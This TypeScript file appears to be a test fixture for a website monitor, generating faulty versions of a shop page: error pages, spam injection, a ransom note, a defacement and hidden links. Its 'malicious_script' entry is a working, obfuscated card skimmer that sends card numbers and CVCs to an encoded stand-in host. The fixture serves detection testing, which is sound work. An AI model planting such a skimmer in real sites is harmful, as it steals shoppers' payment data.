/** What can become of a page that goes on answering 200. Each takes the healthy page and returns the broken one. */
export type ContentFault =
  | 'empty'
  | 'error_page'
  | 'keyword_missing'
  | 'keyword_injected'
  | 'ransom_note'
  | 'defacement'
  | 'malicious_script'
  | 'hidden_spam_links';

type Change = (html: string, name: string) => string;

/** @param name the shop's name: the word that goes missing */
export const contentFaults: Record<ContentFault, Change> = {
  empty: () => '',
  error_page:
    () => `<!doctype html><html><head><title>Database Error</title></head><body><h1>Error establishing a database connection</h1>
<p>This either means that the username and password information in your wp-config.php file is incorrect or that the database server could not be contacted.</p></body></html>`,
  keyword_missing: (html, name) => html.replaceAll(name, ''),
  keyword_injected: (html) =>
    html.replace(
      '</main>',
      '<p>Best online casino bonus 2026: play slots for real money. Cheap viagra without prescription, fast delivery.</p></main>',
    ),
  ransom_note:
    () => `<!doctype html><html><head><title>README</title></head><body><pre>ALL YOUR FILES HAVE BEEN ENCRYPTED!
Your database and your backups were downloaded and removed. To get them back send 0.05 BTC to the bitcoin wallet
bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh within 72 hours and write to restore@onionmail.example. After that your
customers' data will be published.</pre></body></html>`,
  defacement: (html) =>
    html
      .replace(/<title>[^<]*<\/title>/, '<title>Hacked by GhostRider Crew</title>')
      .replace(
        /<body[^]*<\/body>/,
        '<body style="background:#000;color:#0f0"><center><h1>HACKED BY GhostRider Crew</h1><p>Your security is a joke, admin. We are legion. Greetz to all crews.</p></center></body>',
      ),
  malicious_script: (html) =>
    html.replace(
      '</body>',
      `<script>(function(){var _0x4f2a=['aHR0cHM6Ly9jZG4tanF1ZXJ5LXN0YXQuZXhhbXBsZS9jb2xsZWN0','Y2FyZF9udW1iZXI='];var u=atob(_0x4f2a[0]);
document.addEventListener('submit',function(e){var c=document.querySelector('input[name='+atob(_0x4f2a[1])+'],input[autocomplete=cc-number]');if(c){new Image().src=u+'?d='+btoa(c.value+'|'+document.querySelector('[autocomplete=cc-csc]').value)}},true);
eval(String.fromCharCode(118,97,114,32,120,61,49,59,118,97,114,32,121,61,50,59));})();</script></body>`,
    ),
  hidden_spam_links: (html) =>
    html.replace(
      '</footer>',
      `</footer><div style="position:absolute;left:-9999px;top:-9999px">
${['casino-royal-bonus', 'buy-viagra-online', 'payday-loans-fast', 'replica-watches-shop', 'slots-777-free', 'betting-tips-pro'].map((name) => `<a href="https://${name}.example/">${name.replaceAll('-', ' ')}</a>`).join(' ')}</div>`,
    ),
};
